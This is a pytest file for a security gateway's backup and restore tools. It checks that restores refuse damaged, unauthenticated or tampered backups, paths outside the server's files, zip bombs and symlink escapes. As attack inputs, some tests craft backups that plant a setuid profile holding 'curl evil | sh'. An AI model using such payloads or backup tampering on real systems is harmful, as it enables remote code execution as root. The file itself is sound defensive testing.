"""`gateway server backup` and `restore` on a server's files (no process): what a backup
holds, and what a restore refuses before writing anything. The whole cycle with real
processes is test_backup_wipe_restore_and_resume in tests/integration/test_faults.py."""

from __future__ import annotations

import asyncio
import hashlib
import json
import shutil
import sqlite3
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from gateway_ops.backupfile import BACKUP_MAC, BackupKey, write_manifest
from security_server.backup import BackupError, backup, restore

NOW = datetime(2026, 12, 1, 10, 0, tzinfo=UTC)
# the operator's backup key, kept apart from the server's files
KEY = BackupKey(b"k" * 32, Path("/nonexistent/backup.key"))


def make_server(root: Path) -> Path:
    """A server's settings, the files they name, a state folder and a SQLite log of three
    records on chain main; returns the settings file."""
    keys = root / "keys"
    keys.mkdir(parents=True)
    for name in ("anchor.json", "auth.crt", "auth.key", "sign.crt", "sign.key"):
        (keys / name).write_bytes(f"content of {name}".encode())
        (keys / name).chmod(0o600 if name.endswith(".key") else 0o644)
    state = root / "state"
    (state / "configuration-parts").mkdir(parents=True)
    (state / "configuration-parts" / "held.json").write_text("{}")
    (state / "ocsp").mkdir()
    (state / "ocsp" / "answer.der").write_bytes(b"ocsp")
    (state / "subject-pseudonym.key").write_bytes(b"s" * 32)
    (state / "archive").mkdir()
    (state / "archive" / "main-000001.jsonl.gz").write_bytes(b"archived records")
    write_log(state / "messagelog.db", 3)
    config = root / "server.toml"
    config.write_text(
        f"""
[server]
id = "UY/GOV/DNIC/ss1"
anchor = "{keys / "anchor.json"}"
state_dir = "{state}"
[provider]
tls_certificate = "{keys / "auth.crt"}"
tls_key = "{keys / "auth.key"}"
[signing."UY/GOV/DNIC"]
certificate = "{keys / "sign.crt"}"
key = "{keys / "sign.key"}"
[log]
database = "{state / "messagelog.db"}"
"""
    )
    return config


def write_log(path: Path, records: int) -> None:
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE IF NOT EXISTS message_log (chain TEXT, seq INTEGER, hash BLOB)")
    db.execute("DELETE FROM message_log")
    db.executemany(
        "INSERT INTO message_log VALUES ('main', ?, ?)",
        [(n, bytes([n]) * 32) for n in range(1, records + 1)],
    )
    db.commit()
    db.close()


def take(config: Path, out: Path) -> None:
    asyncio.run(backup(config, out, key=KEY, now=NOW))


def test_a_backup_holds_settings_keys_state_and_a_log_copy_but_not_archives(
    tmp_path: Path,
) -> None:
    config = make_server(tmp_path / "server")
    out = tmp_path / "backup.zip"
    take(config, out)
    assert out.stat().st_mode & 0o077 == 0  # private keys inside
    with zipfile.ZipFile(out) as zf:
        manifest = json.loads(zf.read("manifest.json"))
    paths = {Path(f["path"]).name for f in manifest["files"]}
    assert paths == {
        "server.toml",
        "anchor.json",
        "auth.crt",
        "auth.key",
        "sign.crt",
        "sign.key",
        "held.json",
        "answer.der",
        "subject-pseudonym.key",
        "messagelog.db",
    }
    assert manifest["log"] == {"kind": "included", "chains": {"main": [3, (b"\x03" * 32).hex()]}}
    modes = {Path(f["path"]).name: f["mode"] for f in manifest["files"]}
    assert modes["auth.key"] == 0o600 and modes["auth.crt"] == 0o644


def test_restore_puts_back_what_is_missing_with_its_mode(tmp_path: Path) -> None:
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    key = tmp_path / "server" / "keys" / "auth.key"
    key.unlink()
    (tmp_path / "server" / "state" / "messagelog.db").unlink()
    summary = restore(tmp_path / "backup.zip", key=KEY)
    assert summary.written == 2 and summary.log == "restored"
    assert key.read_bytes() == b"content of auth.key" and key.stat().st_mode & 0o777 == 0o600


def test_a_damaged_backup_restores_nothing(tmp_path: Path) -> None:
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    damaged = tmp_path / "damaged.zip"
    with zipfile.ZipFile(tmp_path / "backup.zip") as src, zipfile.ZipFile(damaged, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            dst.writestr(
                item, data.replace(b"auth.key", b"auth.kez") if "auth" in item.filename else data
            )
    key = tmp_path / "server" / "keys" / "auth.key"
    key.unlink()
    with pytest.raises(BackupError, match="does not match its SHA-256: the backup is damaged"):
        restore(damaged, key=KEY)
    assert not key.exists()


def test_restore_refuses_to_replace_other_content_unless_forced(tmp_path: Path) -> None:
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    key = tmp_path / "server" / "keys" / "sign.key"
    key.write_bytes(b"a newer key")
    (tmp_path / "server" / "keys" / "anchor.json").unlink()
    with pytest.raises(BackupError, match=r"sign\.key: exists with other content"):
        restore(tmp_path / "backup.zip", key=KEY)
    assert not (tmp_path / "server" / "keys" / "anchor.json").exists()  # nothing written
    restore(tmp_path / "backup.zip", key=KEY, force=True)
    assert key.read_bytes() == b"content of sign.key"


def test_restore_keeps_a_newer_log_and_newer_caches_and_refuses_an_older_log(
    tmp_path: Path,
) -> None:
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    state = tmp_path / "server" / "state"
    (state / "ocsp" / "answer.der").write_bytes(b"a fresher answer")
    write_log(state / "messagelog.db", 5)
    summary = restore(tmp_path / "backup.zip", key=KEY)
    assert (summary.written, summary.log) == (0, "kept")
    assert (state / "ocsp" / "answer.der").read_bytes() == b"a fresher answer"

    write_log(state / "messagelog.db", 2)  # a log reset behind the backup's head
    with pytest.raises(BackupError, match="ends before the backup's"):
        restore(tmp_path / "backup.zip", key=KEY)


def test_a_backup_naming_a_path_outside_the_servers_files_restores_nothing(
    tmp_path: Path,
) -> None:
    """Even a manifest the key authenticates (made by whoever holds the key) cannot name any
    other path (here a shell profile, setuid): it is refused before anything is written."""
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    target = tmp_path / "elsewhere" / ".profile"
    edited = tmp_path / "edited.zip"
    payload = b"curl evil | sh\n"
    with zipfile.ZipFile(tmp_path / "backup.zip") as src, zipfile.ZipFile(edited, "w") as dst:
        manifest = json.loads(src.read("manifest.json"))
        for item in src.infolist():
            if item.filename not in ("manifest.json", BACKUP_MAC):
                dst.writestr(item, src.read(item))
        dst.writestr("files/9999/.profile", payload)
        manifest["files"].append(
            {
                "name": "files/9999/.profile",
                "path": str(target),
                "size": len(payload),
                "mode": 0o4755,
                "sha256": hashlib.sha256(payload).hexdigest(),
                "cache": False,
            }
        )
        write_manifest(dst, manifest, KEY)
    (tmp_path / "server" / "keys" / "auth.key").unlink()
    with pytest.raises(BackupError, match="neither its settings file"):
        restore(edited, key=KEY)
    assert not target.exists()
    assert not (tmp_path / "server" / "keys" / "auth.key").exists()


def test_a_log_with_another_history_is_not_kept_silently(tmp_path: Path) -> None:
    """A log there that reaches the backup's head with other records (a log reset and
    refilled) is not taken for the backup's own."""
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    db = sqlite3.connect(tmp_path / "server" / "state" / "messagelog.db")
    db.execute("UPDATE message_log SET hash = zeroblob(32) WHERE seq = 3")
    db.execute("INSERT INTO message_log VALUES ('main', 4, zeroblob(32))")
    db.commit()
    db.close()
    with pytest.raises(BackupError, match="another history"):
        restore(tmp_path / "backup.zip", key=KEY)


# ---- the backup key: an edited backup writes nothing -------------------------------------


def edited_to_write_elsewhere(backup_zip: Path, out: Path, victim: Path) -> bytes:
    """What an attacker who can change a stored backup (not read the key) makes of it: the
    settings inside point the state folder at `victim`, a file is added there (setuid, owned
    by root), the old state folder's files are left out, and every SHA-256 of the manifest
    is made to match. Returns the payload."""
    payload = b"curl evil | sh\n"
    with zipfile.ZipFile(backup_zip) as src, zipfile.ZipFile(out, "w") as dst:
        manifest = json.loads(src.read("manifest.json"))
        settings = next(f for f in manifest["files"] if f["path"] == manifest["settings"])
        text = src.read(settings["name"]).decode()
        state = text.split('state_dir = "', 1)[1].split('"', 1)[0]
        text = text.replace(f'state_dir = "{state}"', f'state_dir = "{victim}"')
        settings.update(size=len(text), sha256=hashlib.sha256(text.encode()).hexdigest())
        manifest["files"] = [
            f
            for f in manifest["files"]
            if f["name"] == "log/messagelog.db" or Path(state) not in Path(f["path"]).parents
        ]
        for entry in manifest["files"]:
            data = src.read(entry["name"])
            dst.writestr(entry["name"], text.encode() if entry is settings else data)
        dst.writestr("files/9999/profile", payload)
        manifest["files"].append(
            {
                "name": "files/9999/profile",
                "path": str(victim / "profile"),
                "size": len(payload),
                "mode": 0o4755,
                "uid": 0,
                "gid": 0,
                "sha256": hashlib.sha256(payload).hexdigest(),
                "cache": False,
            }
        )
        dst.writestr("manifest.json", json.dumps(manifest))
    return payload


def test_an_edited_backup_without_its_mac_writes_nothing(tmp_path: Path) -> None:
    """Finding 19 of the red-team review: the settings inside a backup decide where a
    restore writes. An edited backup (here without the MAC file) is refused before anything
    is read from it: the state folder it names is left alone, and nothing of the server's is
    written either."""
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    victim = tmp_path / "victim"
    edited_to_write_elsewhere(tmp_path / "backup.zip", tmp_path / "edited.zip", victim)
    shutil.rmtree(tmp_path / "server")  # the machine was lost: the restore writes it all
    with pytest.raises(BackupError, match="is not authenticated"):
        restore(tmp_path / "edited.zip", key=KEY)
    assert not victim.exists()
    assert not (tmp_path / "server").exists()


@pytest.mark.parametrize("claims", ["the operator's key", "the attacker's key"])
def test_an_edited_backup_with_a_mac_under_another_key_writes_nothing(
    tmp_path: Path, claims: str
) -> None:
    """The attacker signs the edited manifest with a key of their own, naming either the
    operator's key (the MAC does not match) or their own (another key made it)."""
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    victim = tmp_path / "victim"
    plain = tmp_path / "plain.zip"
    edited_to_write_elsewhere(tmp_path / "backup.zip", plain, victim)
    theirs = BackupKey(b"a" * 32, tmp_path / "theirs.key")
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(tmp_path / "edited.zip", "w") as dst:
        for item in src.infolist():
            if item.filename != "manifest.json":
                dst.writestr(item, src.read(item))
        manifest = json.loads(src.read("manifest.json"))
        if claims == "the operator's key":
            data = json.dumps(manifest, indent=2, sort_keys=True).encode()
            dst.writestr("manifest.json", data)
            dst.writestr(BACKUP_MAC, theirs.mac(data))
        else:
            write_manifest(dst, manifest, theirs)
    expected = "does not match its MAC" if claims == "the operator's key" else "another backup key"
    shutil.rmtree(tmp_path / "server")
    with pytest.raises(BackupError, match=expected):
        restore(tmp_path / "edited.zip", key=KEY)
    assert not victim.exists()
    assert not (tmp_path / "server").exists()


def test_a_backup_from_before_backups_were_authenticated_is_refused(tmp_path: Path) -> None:
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    old = tmp_path / "old.zip"
    with zipfile.ZipFile(tmp_path / "backup.zip") as src, zipfile.ZipFile(old, "w") as dst:
        for item in src.infolist():
            if item.filename != BACKUP_MAC:
                dst.writestr(item, src.read(item))
    (tmp_path / "server" / "keys" / "sign.key").unlink()
    with pytest.raises(BackupError, match="taken before backups were, or was edited"):
        restore(old, key=KEY)
    assert not (tmp_path / "server" / "keys" / "sign.key").exists()


def test_the_backup_key_is_never_inside_a_backup(tmp_path: Path) -> None:
    config = make_server(tmp_path / "server")
    inside = tmp_path / "server" / "state" / "backup.key"
    inside.write_text("k" * 64)
    with pytest.raises(BackupError, match="would be in the backup"):
        asyncio.run(backup(config, tmp_path / "b.zip", key=BackupKey(b"k" * 32, inside), now=NOW))
    assert not (tmp_path / "b.zip").exists()


def test_a_log_swapped_in_the_zip_while_restoring_is_not_written(tmp_path: Path) -> None:
    """The log is read from the zip a second time when it is written (it may be large): a
    zip replaced between the check and the copy (same manifest, another log) leaves the
    log's place empty rather than holding what no MAC covers."""
    config = make_server(tmp_path / "server")
    source = tmp_path / "backup.zip"
    take(config, source)
    swapped = tmp_path / "swapped.zip"
    other = tmp_path / "other.db"
    write_log(other, 9)
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(swapped, "w") as dst:
        for item in src.infolist():
            if item.filename == "log/messagelog.db":
                dst.write(other, item.filename)
            else:
                dst.writestr(item, src.read(item))
    state = tmp_path / "server" / "state"
    (tmp_path / "server" / "keys" / "auth.key").unlink()
    (state / "messagelog.db").unlink()

    def swap(path: str) -> None:  # after the first file written, before the log
        if swapped.exists():
            swapped.replace(source)

    with pytest.raises(BackupError, match="changed while it was restored"):
        restore(source, key=KEY, progress=swap)
    assert not (state / "messagelog.db").exists()
    assert list(state.glob(".messagelog.db.*")) == []  # no temporary file left


# ---- links, hard links and damage -----------------------------------------------------------


def test_a_link_in_the_state_folder_is_left_out_and_a_named_link_restores(
    tmp_path: Path,
) -> None:
    """Whoever can write to the state folder (the server's own user) plants a link to a
    file only root may read: a backup taken as root leaves it out, rather than holding the
    file's content (and a manifest no restore would take). A certificate the settings name
    through a link (certbot's `live/` folder) is recorded under that name, and restores
    there on a wiped machine."""
    config = make_server(tmp_path / "server")
    secret = tmp_path / "root-only.txt"
    secret.write_text("root's secret")
    state = tmp_path / "server" / "state"
    (state / "ocsp" / "planted.der").symlink_to(secret)
    keys = tmp_path / "server" / "keys"
    (tmp_path / "server" / "archive").mkdir()
    (keys / "auth.crt").rename(tmp_path / "server" / "archive" / "auth1.crt")
    (keys / "auth.crt").symlink_to(tmp_path / "server" / "archive" / "auth1.crt")
    take(config, tmp_path / "backup.zip")
    with zipfile.ZipFile(tmp_path / "backup.zip") as zf:
        assert b"root's secret" not in b"".join(zf.read(n) for n in zf.namelist())
        paths = {f["path"] for f in json.loads(zf.read("manifest.json"))["files"]}
    assert str(keys / "auth.crt") in paths and str(state / "ocsp" / "planted.der") not in paths
    shutil.rmtree(tmp_path / "server")
    restore(tmp_path / "backup.zip", key=KEY)
    assert (keys / "auth.crt").read_bytes() == b"content of auth.crt"


def test_a_hard_link_to_the_key_in_the_state_folder_is_refused(tmp_path: Path) -> None:
    config = make_server(tmp_path / "server")
    key = tmp_path / "backup.key"
    key.write_text("k" * 64)
    (tmp_path / "server" / "state" / "innocent").hardlink_to(key)
    with pytest.raises(BackupError, match=r"would be in the backup, as .*innocent"):
        asyncio.run(backup(config, tmp_path / "b.zip", key=BackupKey(b"k" * 32, key), now=NOW))
    assert not (tmp_path / "b.zip").exists()


def rebuilt(source: Path, out: Path, change: Callable[[str, bytes], bytes]) -> None:
    """`source` copied to `out` uncompressed, each member's content through `change`."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            dst.writestr(item.filename, change(item.filename, src.read(item)), zipfile.ZIP_STORED)


def test_a_file_larger_than_its_manifest_says_is_not_read(tmp_path: Path) -> None:
    """A file swapped into a backup (not the manifest: the MAC covers it) cannot make the
    restore read more than the manifest says it holds: a zip bomb is refused unread."""
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    bomb = tmp_path / "bomb.zip"
    with (
        zipfile.ZipFile(tmp_path / "backup.zip") as src,
        zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as dst,
    ):
        manifest = json.loads(src.read("manifest.json"))
        target = next(f["name"] for f in manifest["files"] if f["path"].endswith("sign.crt"))
        for item in src.infolist():
            data = src.read(item)
            dst.writestr(item, bytes(64 << 20) if item.filename == target else data)
    with pytest.raises(BackupError, match="more than the 19 expected"):
        restore(bomb, key=KEY)


def test_damage_only_the_zip_can_tell_is_a_clear_error(tmp_path: Path) -> None:
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    stored = tmp_path / "stored.zip"
    rebuilt(tmp_path / "backup.zip", stored, lambda name, data: data)
    raw = bytearray(stored.read_bytes())
    raw[raw.index(b"content of sign.key")] ^= 1  # the CRC no longer matches
    stored.write_bytes(bytes(raw))
    with pytest.raises(BackupError, match=r"is damaged: files/\d+/sign\.key cannot be read"):
        restore(stored, key=KEY)


def test_a_link_in_the_state_folder_does_not_lead_a_restore_out_of_it(tmp_path: Path) -> None:
    """The server's own user replaces a folder of the state folder with a link to a folder
    of root's: a restore run as root would write the backup's file there, with the owner
    the manifest says. It is refused before anything is written."""
    config = make_server(tmp_path / "server")
    take(config, tmp_path / "backup.zip")
    state = tmp_path / "server" / "state"
    roots = tmp_path / "roots-folder"
    roots.mkdir()
    shutil.rmtree(state / "ocsp")
    (state / "ocsp").symlink_to(roots)
    (tmp_path / "server" / "keys" / "auth.key").unlink()
    with pytest.raises(BackupError, match="a symbolic link in the state folder leads out"):
        restore(tmp_path / "backup.zip", key=KEY)
    assert list(roots.iterdir()) == []
    assert not (tmp_path / "server" / "keys" / "auth.key").exists()
